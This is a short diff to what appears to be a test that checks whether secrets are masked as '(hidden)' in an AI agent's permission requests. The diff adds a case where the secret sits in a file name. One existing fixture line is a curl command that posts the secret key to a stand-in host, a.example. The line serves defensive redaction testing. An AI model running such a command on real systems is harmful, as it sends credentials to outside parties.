@@ -102,7 +102,8 @@ it('secrets are hidden wherever the agent writes them', async () => {
 		asked({ kind: 'execute', rawInput: { command: `A=1 curl -d ${key} a.example` } }),
 		asked({ kind: 'edit', content: [diff(join(folder, 'a.ts'), null, `const a = '${key}'\n`)] }),
 		asked({ kind: 'other', title: `Post ${key}`, rawInput: { list: [`"${key}"`] } }),
+		asked({ kind: 'edit', content: [diff(join(folder, `${key}.ts`), null, 'a')] }),
 	])
-	expect(texts.map((one) => one?.text.includes('(hidden)'))).toEqual([true, true, true])
+	expect(texts.map((one) => one?.text.includes('(hidden)'))).toEqual([true, true, true, true])
 	expect(JSON.stringify(texts)).not.toContain(key)
 })
